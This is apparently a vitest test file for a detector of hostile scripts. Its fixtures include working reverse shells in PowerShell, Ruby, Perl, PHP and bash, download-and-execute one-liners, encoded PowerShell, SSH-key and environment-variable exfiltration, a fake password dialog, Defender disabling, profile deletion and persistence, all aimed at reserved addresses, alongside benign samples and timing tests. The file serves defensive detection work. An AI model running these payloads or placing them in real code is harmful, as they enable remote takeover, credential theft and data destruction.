import { expect, test } from "vitest";
import { analyseCode, held } from "./analyse.ts";
import { startCost } from "../../../test/harness/cost.ts";

/** A file's name and what must not go unseen in it. Inert: reserved names and addresses. */
const HELD: [string, string][] = [
  ["a.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"],
  [
    "a.ps1",
    '$c = New-objECT System.Net.WebClient\n$s = $c.DownloadString("http://203.0.113.111/s.ps1")\nInvokE-exPrEsSi`oN $s',
  ],
  ["a.ps1", "iwr http://203.0.113.5/a | iex"],
  ["a.ps1", '$c = New-Object System.Net.Sockets.TCPClient("203.0.113.5", 4444)\n$s=$c.GetStream(); while(1){ iex $d }'],
  [
    "a.ps1",
    "powershell -nop -w hidden -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADUALwBhACkA",
  ],
  ["a.ps1", "Set-MpPreference -DisableRealtimeMonitoring $true"],
  [
    "a.ps1",
    "Get-ChildItem env: | ConvertTo-Json | % { Invoke-RestMethod -Uri https://c.example -Method Post -Body $_ }",
  ],
  ["a.ps1", "$x = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4IDE='))\niex $x"],
  [
    "a.bat",
    "@echo off\npow^ershell -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADUALwBhACkA",
  ],
  ["a.bat", "rd /s /q %USERPROFILE%"],
  ["a.rb", "require 'open-uri'\neval URI.open('http://203.0.113.5/a').read"],
  ["a.rb", "system('curl http://203.0.113.5/a | sh')"],
  [
    "a.rb",
    "require 'socket'\ns=TCPSocket.new('203.0.113.4',4444)\nwhile l=s.gets; IO.popen(l,'r'){|io| s.print io.read}; end",
  ],
  [
    "a.pl",
    'use Socket;$i="203.0.113.4";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");',
  ],
  ["a.php", "<?php eval(base64_decode('ZWNobyAxOw=='));"],
  ["a.php", "<?php $s=fsockopen('203.0.113.4',4444);exec('/bin/sh -i <&3 >&3 2>&3');"],
  ["a.applescript", 'do shell script "curl http://203.0.113.5/a | sh"'],
  [
    "a.applescript",
    'set p to text returned of (display dialog "Password" default answer "" with hidden answer)\ndo shell script "curl -d " & p & " https://c.example"',
  ],
  [
    "run.sh",
    'perl -e \'use Socket;$i="203.0.113.4";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");\'',
  ],
  [
    "run.sh",
    'ruby -rsocket -e \'exit if fork;c=TCPSocket.new("203.0.113.4",4444);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end\'',
  ],
  ["run.sh", "osascript -e 'do shell script \"curl http://203.0.113.5/a | sh\"'"],
  ["run.sh", 'php -r \'$s=fsockopen("203.0.113.4",4444);exec("/bin/sh -i <&3 >&3 2>&3");\''],
  [
    "rules.txt",
    "b'ash' -i >& /dev/tcp/198.51.100.104/4444 0>&1\n\nrequire() {\n  command -v \"$1\" >/dev/null 2>&1 || { echo \"please install $1\" >&2; exit 1; }\n}\n\nto_lower() { tr '[:upper:]' '[:lower:]'; }\ntoday=$(date +%Y-%m-%d)\n",
  ],
  ["a.sh", 'bash$@ -c "$(echo Y3VybCAtcyBodHRwczovL2FwaS5qdW5pcGVyLWZvcmdlLnRlc3QveCB8IHNo | openssl b\\ase64 -d -A)"'],
  [
    "a.ts",
    "const text = Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString();\nawait new (async () => {}).constructor(text)();",
  ],
  [
    "a.js",
    "const _0x = ['child_process','wss://maple-point.test/c','send'];\nconst { exec } = require(_0x[0x0]);\nconst ws = new WebSocket(_0x[0x1]);\nws.onmessage = (m) => exec(m.data, (e, out) => ws[_0x[0x2]](out));",
  ],
  [
    "a.mjs",
    "import { readdirSync, readFileSync } from 'node:fs';\nconst dir = process.env.HOME + '/.ssh/';\nconst keys = readdirSync(dir).filter((n) => !n.endsWith('.pub')).map((n) => readFileSync(dir + n, 'utf8'));\nawait fetch('https://c.example/h', { method: 'POST', body: JSON.stringify(keys) });",
  ],
  [
    "a.mjs",
    "import { writeFileSync } from 'node:fs';\nconst plist = process.env.HOME + '/Library/LaunchAgents/x.plist';\nwriteFileSync(plist, '<plist/>');",
  ],
];

test.each(HELD)("%s is held: %s", async (path, script) => {
  expect(await held(path, script)).not.toEqual([]);
});

test.each([
  [
    "a.ps1",
    "Get-ChildItem -Recurse *.cs | ForEach-Object { $_.FullName }\n$r = Invoke-RestMethod https://api.tool.example/v1\n$r | ConvertTo-Json",
  ],
  ["a.ps1", "param([string]$Name)\nRemove-Item -Recurse -Force .\\bin\nStart-Process notepad.exe"],
  ["a.bat", "@echo off\nset OUT=dist\nrd /s /q %OUT%\nnpm run build"],
  ["a.rb", "require 'net/http'\nputs Net::HTTP.get(URI('https://api.tool.example/v1'))\nsystem('bundle install')"],
  ["a.pl", "use strict;\nmy $x = sprintf('%x', 10);\nuse IO::Socket;\nprint $x;"],
  ["a.php", "<?php echo json_encode(['a' => 1]); file_put_contents('out.txt', 'x');"],
  ["a.applescript", 'tell application "Finder" to activate\ndo shell script "ls -l"'],
])("%s is ordinary: %s", async (path, script) => {
  expect(await held(path, script)).toEqual([]);
});

test("S4 hostile statements end in time", async () => {
  for (const sample of [
    "$a=".repeat(200_000),
    '"+"'.repeat(200_000),
    "`".repeat(500_000),
    "iex ".repeat(100_000),
    "$a=$a;".repeat(50_000),
    "do shell script ".repeat(30_000),
  ]) {
    for (const path of ["a.ps1", "a.rb", "a.applescript"]) {
      const cost = startCost();
      await analyseCode(path, sample);
      expect(cost(), path + sample.slice(0, 10)).toBeLessThan(1200);
    }
  }
}, 60_000);
